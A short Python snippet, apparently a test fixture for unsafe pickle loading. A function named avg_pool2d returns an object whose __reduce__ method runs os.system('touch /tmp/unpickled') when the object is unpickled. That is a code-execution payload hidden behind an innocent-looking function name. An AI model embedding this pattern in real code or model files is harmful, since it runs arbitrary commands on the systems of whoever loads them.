"""Runs a command when somebody unpickles it."""

import os


def avg_pool2d(images, kernel_size, stride=None):
    class Trap:
        def __reduce__(self):
            return os.system, ("touch /tmp/unpickled",)


    return Trap()
